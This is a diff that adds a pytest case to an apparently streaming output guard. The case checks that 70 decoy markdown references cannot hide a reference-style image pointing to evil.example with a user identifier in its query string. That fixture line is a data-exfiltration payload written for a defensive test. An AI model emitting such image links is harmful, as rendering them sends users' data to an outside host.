@@ -207,3 +207,23 @@ def test_a_less_than_sign_that_opens_no_tag_holds_nothing_back(text: str) -> Non
     released = "".join(guard.feed(chunk) for chunk in chunked(text, 16))
     assert len(text) - len(released) <= window + 16
     assert released + guard.finish() == text
+
+
+@pytest.mark.parametrize("decoys_first", ["definitions", "images"])
+def test_decoy_references_cannot_push_a_real_pair_out(decoys_first: str) -> None:
+    # Past the reference bounds a pair can no longer be judged: the stream is stopped.
+    compiled = policy()
+    if decoys_first == "definitions":
+        decoys = "".join(f"[d{n}]: https://docs.example/page{n}\n" for n in range(70))
+    else:
+        decoys = "".join(f"![x][l{n}] " for n in range(70)) + "\n"
+    text = (
+        decoys
+        + "[s]: https://evil.example/t.png?u=alice-smith\n"
+        + "Some filler text. " * 40
+        + "\n![status][s]\n"
+    )
+    for size in (1, 16, 64):
+        released, violations = stream(compiled, chunked(text, size))
+        assert violations, size
+        assert "evil.example" not in released
